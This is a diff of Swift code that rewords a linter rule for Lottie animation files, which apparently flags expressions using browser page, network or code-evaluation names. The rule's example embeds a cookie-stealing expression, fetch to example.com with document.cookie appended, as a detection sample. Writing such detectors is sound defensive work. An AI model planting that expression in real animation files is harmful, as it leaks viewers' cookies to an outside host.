@@ -2,18 +2,21 @@ public import PegbarDiagnostics
 internal import PegbarLottie
 
 extension Rule {
-  /// An expression uses what no animation needs.
+  /// Suspicious expression.
   package static let expressionSuspicious = Rule(
     .rule(
       "sec/expression-suspicious", .error,
       RulePage(
-        title: "An expression does more than animate",
+        title: "Suspicious expression",
         meaning: """
-          The expression uses a name that browsers have and After Effects lacks: for the page, \
-          for the network, or to run text as code. A backslash outside of text hides such names.
+          The expression uses a name that browsers define and After Effects does not: for the \
+          page, for the network, or to run strings as code. A backslash outside of a string hides \
+          such names.
           """,
-        effect: "It may read what the page shows and send it elsewhere.",
-        wayOut: "Do not play the file. Ask its author what the expression is for, or delete it.")),
+        effect: "The expression can read the contents of the page and send them to others.",
+        wayOut: """
+          Do not play the file. Ask its author about the purpose of the expression, or delete it.
+          """)),
     example: .layer(
       #""ks": {"r": {"a": 0, "k": 0, "x": "fetch('https://example.com/?' + document.cookie)"}}"#),
     check: .several([
@@ -34,12 +37,12 @@ extension RuleRun {
   fileprivate func reportSuspicious(_ expression: String, at source: SourceID) {
     var words = ScriptWords(expression)
     guard let word = words.firstSuspicious() else { return }
-    let thing = word == "\\" ? "a backslash outside of text" : "'\(word)'"
-    report("the expression uses \(thing), which no animation needs", at: source)
+    let thing = word == "\\" ? "a backslash outside of a string" : "'\(word)'"
+    report("the expression uses \(thing), which animations do not require", at: source)
   }
 }
 
 extension FindingKind {
-  /// An expression does more than animate (`sec/expression-suspicious`).
+  /// Suspicious expression (`sec/expression-suspicious`).
   public static let expressionSuspicious = Rule.expressionSuspicious.pageKind
 }
